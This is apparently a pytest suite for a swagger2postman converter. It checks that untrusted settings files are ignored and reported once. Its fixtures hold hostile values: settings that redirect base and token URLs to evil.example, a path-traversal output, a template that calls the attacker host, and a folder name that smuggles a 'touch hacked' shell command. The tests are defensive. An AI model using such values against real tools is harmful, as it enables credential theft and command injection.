"""Settings that were found and that nobody trusts do nothing, and each command says so once."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from support.command_line import run
from support.trust import NAME, SECURED, found_in, warning

EVIL = {
    "templates": 'templates = "mine"\n',
    "output": 'output = "../precious.json"\n',
    "allow-path": 'allow-path = ["/"]\n',
    "allow-host": 'allow-host = ["http://evil.example"]\n',
    "token-url": 'token-url = "https://evil.example/token"\n',
    "base-url": 'base-url = "https://evil.example"\n',
    "limits": 'max-size = 100000\nlimit = ["steps=999999999999", "nodes=999999999999"]\n',
    "an error": "nonsense = 1\n",
    "no TOML": "[" * 100_000,
    "for one API": '[[api]]\nfile = "*"\ntoken-url = "https://evil.example/token"\n',
}


@pytest.mark.parametrize("case", EVIL)
def test_what_nobody_trusts_does_nothing(case: str, project: Path) -> None:
    """A settings file that comes with a document is a finding; the collection is what it is without that file."""
    (project.parent / "precious.json").write_text("precious")
    assert run("convert", "tiny.yaml", "-o", "plain.json", cwd=project)[0] == 0
    (project / "mine").mkdir()
    (project / "mine" / "pre_request.js.j2").write_text("pm.sendRequest('https://evil.example')\n")
    (project / NAME).write_text(EVIL[case])
    code, out, err = run("convert", "tiny.yaml", cwd=project)
    assert (code, err) == (0, warning())
    assert "1 of 1 request validated; 1 warning.\n" in out
    assert "Sent to api.polder.example, and nowhere else: your client id, client secret and access token.\n" in out
    assert "Used" not in out
    made = project / "tiny.postman_collection.json"
    assert made.read_bytes() == (project / "plain.json").read_bytes()
    assert (project.parent / "precious.json").read_text() == "precious"


def test_the_finding_as_json(project: Path) -> None:
    """The finding has a code, a place, and the way to trust; --no-config looks for nothing."""
    (project / NAME).write_text("strict = true\n")
    assert found_in(project) == [
        {
            "code": "untrusted-settings",
            "severity": "warning",
            "message": "These settings are not used: they were found, not given, and nobody has trusted them yet.",
            "hint": "If you know who made it, read it, then: swagger2postman trust swagger2postman.toml; "
            "--no-config ignores it.",
            "pointer": "",
            "file": NAME,
            "line": 1,
            "column": 1,
            "help_uri": "docs/findings.md#untrusted-settings",
        }
    ]
    assert found_in(project, "--no-config") == []


def test_every_command_says_it(project: Path) -> None:
    """Each command that would use settings says that it does not; a warning is no reason to fail."""
    (project / NAME).write_text("strict = true\n")
    done = {name: run(name, "tiny.yaml", cwd=project) for name in ("validate", "bundle", "guide", "convert")}
    reported = {name: (code, (out if name == "validate" else err).startswith(warning()))
                for name, (code, out, err) in done.items()}  # fmt: skip
    assert reported == dict.fromkeys(done, (0, True))


def test_it_is_said_where_a_command_fails(project: Path) -> None:
    """A run that fails early names the settings that it did not use, for they may be what is missing."""
    (project / NAME).write_text('output = "out/"\n')
    assert run("convert", "tiny.yaml", "--security", "Key", cwd=project)[2].startswith(warning())


@pytest.mark.parametrize("command", ["convert", "validate"])
def test_once_for_each_file_of_many_documents(command: str, project: Path) -> None:
    """Of many documents, each settings file is said once, in text and JSON, with the first document that it is for."""
    for name in ("a/x.yaml", "a/y.yaml", "b/z.yaml"):
        (project / name).parent.mkdir(exist_ok=True)
        (project / name).write_text(SECURED)
    for name in (f"a/{NAME}", NAME):
        (project / name).write_text('base-url = "https://evil.example"\n')
    chosen = ["-o", "out/"] if command == "convert" else []
    stream = 2 if command == "convert" else 1
    report = str(run(command, ".", *chosen, cwd=project)[stream])
    assert [line for line in report.splitlines() if "untrusted" in line] == [
        warning(f"a/{NAME}")[:-1],
        warning()[:-1],
    ]
    made = json.loads(str(run(command, ".", *chosen, "--format", "json", cwd=project)[stream]))
    assert [(one["spec"], one["file"]) for one in made["diagnostics"]] == [
        ("a/x.yaml", f"a/{NAME}"),
        ("b/z.yaml", NAME),
    ]
    assert [one["warnings"] for one in made["documents"]] == [1, 0, 1, 0]


def test_names_are_quoted(tmp_path: Path, project: Path) -> None:
    """The command in the finding can be copied, whatever the folder is called."""
    folder = tmp_path / "x; touch hacked #"
    project.rename(folder)
    (folder / NAME).write_text("strict = true\n")
    assert f"trust {NAME};" in str(found_in(folder)[0]["hint"])
    (tmp_path / "elsewhere").mkdir()
    out = run("validate", folder / "tiny.yaml", cwd=tmp_path / "elsewhere")[1]
    assert f"swagger2postman trust '{folder}/{NAME}';" in out


def test_the_variable_of_ci(project: Path) -> None:
    """The file that the variable names is used like --config, which wins over it, and so does --no-config."""
    (project / "ci.toml").write_text('base-url = "https://ci.polder.example"\n')
    (project / "typed.toml").write_text('base-url = "https://typed.polder.example"\n')
    (project / NAME).write_text('base-url = "https://evil.example"\n')
    variable = {"SWAGGER2POSTMAN_CONFIG": "ci.toml"}

    def base(*arguments: str, **more: str) -> tuple[str, str]:
        code, _, err = run("convert", "tiny.yaml", "-o", "out.json", *arguments, cwd=project, **more)
        assert code == 0
        return json.loads((project / "out.json").read_bytes())["variable"][0]["value"], err

    assert base(**variable) == ("https://ci.polder.example", "")
    assert base("--config", "typed.toml", **variable) == ("https://typed.polder.example", "")
    assert base("--no-config", SWAGGER2POSTMAN_CONFIG="gone.toml") == ("https://api.polder.example", "")
    assert base(SWAGGER2POSTMAN_CONFIG="") == ("https://api.polder.example", warning())
    out = run("convert", "tiny.yaml", "-o", "x.json", cwd=project, **variable)[1]
    assert "Used ci.toml (named by SWAGGER2POSTMAN_CONFIG):\n  hosts: base-url https://ci.polder.example\n" in out
    assert run("convert", "tiny.yaml", cwd=project, SWAGGER2POSTMAN_CONFIG="gone.toml") == (
        2,
        "",
        "Error: SWAGGER2POSTMAN_CONFIG names gone.toml, which is not a file. Correct the variable, or unset it.\n",
    )


def test_libraries_read_no_settings(project: Path) -> None:
    """A program that uses the package obeys no settings file, trusted or not, nor the variable."""
    (project / NAME).write_text('base-url = "https://evil.example"\n')
    run("trust", cwd=project)
    program = "from swagger2postman import convert; print(convert('tiny.yaml').to_json()['variable'][0]['value'])"
    done = subprocess.run(
        [sys.executable, "-c", program],
        cwd=project,
        capture_output=True,
        check=True,
        timeout=60,
        env={**os.environ, "SWAGGER2POSTMAN_CONFIG": NAME},
    )
    assert done.stdout == b"https://api.polder.example\n"
